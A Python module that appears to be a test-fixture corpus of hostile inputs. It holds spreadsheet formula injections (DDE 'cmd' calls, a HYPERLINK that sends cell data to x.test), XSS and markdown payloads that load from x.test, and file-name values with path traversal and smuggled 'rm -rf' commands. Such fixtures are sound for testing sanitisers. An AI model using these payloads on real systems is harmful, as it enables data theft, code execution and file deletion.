"""A hundred texts that have turned programs which show or reckon with them against their people."""

from __future__ import annotations

from itertools import cycle, islice
from typing import Final

_FORMULAS: Final = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "-cmd|' /C calc'!A0"),
    *("+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", '=HYPERLINK("http://x.test?"&A1,"tea")'),
    *('=WEBSERVICE("http://x.test")', '=IMPORTXML("http://x.test","//a")', "=DDE(0;0;0)"),
    *("=1+1;=2+2", "tea;=cmd|' /C calc'!A0", "tea\n=cmd|' /C calc'!A0", "tea\t=1+1", "tea\r\n=1+1"),
    *('tea";=1+1;"', 'tea",=1+1,"', "tea\n- cmd|' /C calc'!A0", "tea\n-1+cmd|' /C calc'!A0"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "−1+1", "'=1+1", '"=1+1"', "-2+3+cmd|' /C calc'!D2"),
)
_BEFORE: Final = (
    *("", " ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\u200e", "\u202e"),
    *("\ufeff", "\u2060", "\u00ad", "\0", "\x0b", " \t ", "\u2028", "\u2007"),
)
FORMULAS: Final = tuple(
    dict.fromkeys(
        [*_FORMULAS]
        + [
            f"{before}{formula}"
            for before, formula in islice(zip(cycle(_BEFORE), cycle(_FORMULAS)), 140)
        ]
    )
)
"""For tables: at least a hundred, each with a live formula if a cell or a part of one began so."""

_SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=http://x.test/a.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://x.test/a.png'>",
    '<img src="file:///etc/passwd">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=http://x.test></iframe>",
    "<object data=http://x.test></object>",
    "<embed src=http://x.test>",
    "<link rel=stylesheet href=http://x.test/a.css>",
    "<style>@import url(http://x.test/a.css);</style>",
    "<style>*{background:url(http://x.test)}</style>",
    '<div style="background:url(http://x.test)">',
    "<meta http-equiv=refresh content='0;url=http://x.test'>",
    "<base href=http://x.test/>",
    "<form action=http://x.test><button>go</button></form>",
    "<video src=http://x.test autoplay>",
    "<audio src=http://x.test autoplay>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>tea</a>",
    "<math><mi xlink:href='javascript:alert(1)'>tea</mi></math>",
    "</p></article></main><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\x1b]8;;http://x.test\x07tea\x1b]8;;\x07",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
)
_MARKED: Final = (
    "![tea](http://x.test/a.png)",
    "![tea][a]\n\n[a]: http://x.test/a.png",
    "[a]: http://x.test/a.png\n\n![a]",
    "![](http://x.test/a.png#x-y)",
    "!\\[tea](http://x.test/a.png)",
    "\\![tea](http://x.test/a.png)",
    "![[http://x.test/a.png]]",
    "![[../../../etc/passwd]]",
    "[[javascript:alert(1)]]",
    "[tea](javascript:alert(1))",
    "[tea](<javascript:alert(1)>)",
    "[tea](data:text/html;base64,PHNjcmlwdD4=)",
    "<http://x.test>",
    "<javascript:alert(1)>",
    "```dataviewjs\ndv.io.load('http://x.test')\n```",
    "~~~dataviewjs\ndv.io.load('http://x.test')\n~~~",
    "`$= fetch('http://x.test')`",
    "<% tp.system.prompt() %>",
    "%%hidden%%",
    "$\\unicode{<img src=http://x.test>}$",
    "$$\\href{javascript:alert(1)}{tea}$$",
    "    <script>alert(1)</script>",
    "\t![tea](http://x.test/a.png)",
    "> [!note]\n> <img src=http://x.test>",
    "---\ncssclasses: [x]\n---\n![tea](http://x.test/a.png)",
    '---\npublish: true\n---\n"]\n---\n<script>alert(1)</script>',
    "| a |\n|---|\n| <img src=http://x.test> |",
    "tea\n===\n<script>alert(1)</script>",
    "tea\n---\n<script>alert(1)</script>",
    "tea\n-\n![tea](http://x.test/a.png)",
    "- - -\n<script>alert(1)</script>",
    "* * *\n___\n<img src=http://x.test>",
    "# tea\n## <script>alert(1)</script>",
    "[^1]: <script>alert(1)</script>\n\n[^1]",
    "^[<img src=http://x.test>]",
    "&#33;&#91;tea&#93;(http://x.test/a.png)",
    "\\<script>alert(1)\\</script>",
    "\\\\<script>alert(1)</script>",
    "\\\n<script>alert(1)</script>",
    "1. <script>alert(1)</script>\n2. ![tea](http://x.test/a.png)",
    "- <img src=http://x.test>\n    - ![tea](http://x.test/a.png)",
    "tea\r<script>alert(1)</script>",
    "tea\u2028<script>alert(1)</script>\u2029",
    "\u202e<script>alert(1)</script>",
    "\ufeff---\na: b\n---\n<script>alert(1)</script>",
)
_DOORS: Final = ("{}", "tea {}", "{} tea", "**{}**", "> {}", "\n\n{}\n\n")
MARKUP: Final = tuple(
    dict.fromkeys(
        [*_SCRIPTS, *_MARKED]
        + [
            door.format(text) if door != "{}" else text
            for door, text in zip(cycle(_DOORS[1:]), _SCRIPTS[:35], strict=False)
            if "{{" not in text and "${" not in text
        ]
    )
)
"""For pages: a hundred and more that run or load something where they are taken as markup."""

NAMES: Final = (
    *("../../etc/passwd", "/etc/passwd", "C:\\Windows\\x", "\\\\host\\share\\x", "a/b/c", "a\\b"),
    *("CON", "nul.txt", "COM1", "tea.", "tea ", " tea", "...", ".", "..", ".hidden", "~", "-rf"),
    *("tea\0.md", "tea\n.md", "tea:stream", "tea|tea", 'tea?*<>"', "$(rm -rf ~)", "`rm`", "; rm"),
    *(
        "é" * 300,
        "e\u0301" * 300,
        "🌿" * 300,
        "今" * 300,
        "x" * 20_000,
        "\u202egpj.exe",
        "Tea",
        "tea",
    ),
    *(
        "TEA",
        "straße",
        "STRASSE",
        "ﬁsh",
        "fish",
        "İ",
        "i\u0307",
        "\ufeff",
        "\u2028",
        "   ",
        "%2e%2e%2f",
    ),
)
"""Words that would make bad names of files."""
